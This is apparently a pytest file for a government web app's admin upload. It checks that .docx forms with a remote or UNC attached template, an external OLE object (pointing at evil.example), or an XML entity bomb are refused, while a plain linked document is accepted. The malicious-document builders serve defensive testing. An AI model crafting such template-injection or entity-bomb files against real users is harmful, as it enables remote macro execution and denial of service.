"""A downloadable .docx form the super admin uploads must stay free of active content: not only
no macro project, but no remote template either (Word fetches the attached template named in
``word/_rels/settings.xml.rels`` and runs its macros: "template injection"), no external OLE
object; and a relationship part with an entity bomb is refused, never expanded."""

from __future__ import annotations

import io
import zipfile

import pytest
from docx import Document

from sisakat.extensions import db
from sisakat.models import Role, StoredFile
from sisakat.services import service_info
from tests.public_helpers import upload

URL = "/admin/layanan/skt_parpol/formulir"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _rels(rel_type: str, target: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<Relationships xmlns="{RELS_NS}">'
        f'<Relationship Id="rId99" Type="{OFFICE_REL}/{rel_type}" Target="{target}"'
        ' TargetMode="External"/></Relationships>'
    ).encode()


def _docx(extra: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    Document().save(out)
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    rebuilt = io.BytesIO()
    with zipfile.ZipFile(rebuilt, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "word/settings.xml":  # what makes Word use the relationship
                data = data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rId99"/><w:zoom', 1)
            archive.writestr(info.filename, extra.pop(info.filename, data))
        for name, data in extra.items():
            archive.writestr(name, data)
    return rebuilt.getvalue()


BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
    b']><Relationships xmlns="' + RELS_NS.encode() + b'">&c;</Relationships>'
)

CASES = {
    "remote_template": {
        "word/_rels/settings.xml.rels": _rels("attachedTemplate", "http://evil.example/t.dotm")
    },
    "unc_template": {
        "word/_rels/settings.xml.rels": _rels("attachedTemplate", "file://///evil.example/t.dotm")
    },
    "external_ole": {
        "word/_rels/document.xml.rels": _rels("oleObject", "http://evil.example/x.sct")
    },
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_docx_form_loading_remote_content_is_refused(app, make, login_as, case):
    admin = login_as(make.user(Role.SUPERADMIN))
    data = _docx(dict(CASES[case]))
    refused = admin.post(URL, data={"title": "Templat", "file": upload(data, "templat.docx")})
    page = refused.get_data(as_text=True)  # the page itself, the title kept
    assert "Formulir harus berkas PDF atau Word" in page
    assert service_info.forms_for("skt_parpol") == []
    assert db.session.execute(db.select(db.func.count()).select_from(StoredFile)).scalar() == 0


def test_plain_docx_with_hyperlink_is_still_accepted(app, make, login_as):
    admin = login_as(make.user(Role.SUPERADMIN))
    data = _docx({})
    with_link = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(with_link, "w") as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == "word/settings.xml":
                body = body.replace(b'<w:attachedTemplate r:id="rId99"/>', b"")
            if info.filename == "word/_rels/document.xml.rels":
                body = body.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rId98" Type="' + OFFICE_REL.encode() + b'/hyperlink"'
                    b' Target="https://kesbangpol.example.go.id" TargetMode="External"/>'
                    b"</Relationships>",
                )
            dst.writestr(info, body)
    admin.post(URL, data={"title": "Templat", "file": upload(with_link.getvalue(), "t.docx")})
    assert [f.title for f in service_info.forms_for("skt_parpol")] == ["Templat"]


def test_entity_bomb_in_a_relationship_part_is_refused_unexpanded(app, make, login_as):
    admin = login_as(make.user(Role.SUPERADMIN))
    data = _docx({"word/_rels/document.xml.rels": BOMB})
    admin.post(URL, data={"title": "Bom", "file": upload(data, "bom.docx")})
    assert service_info.forms_for("skt_parpol") == []
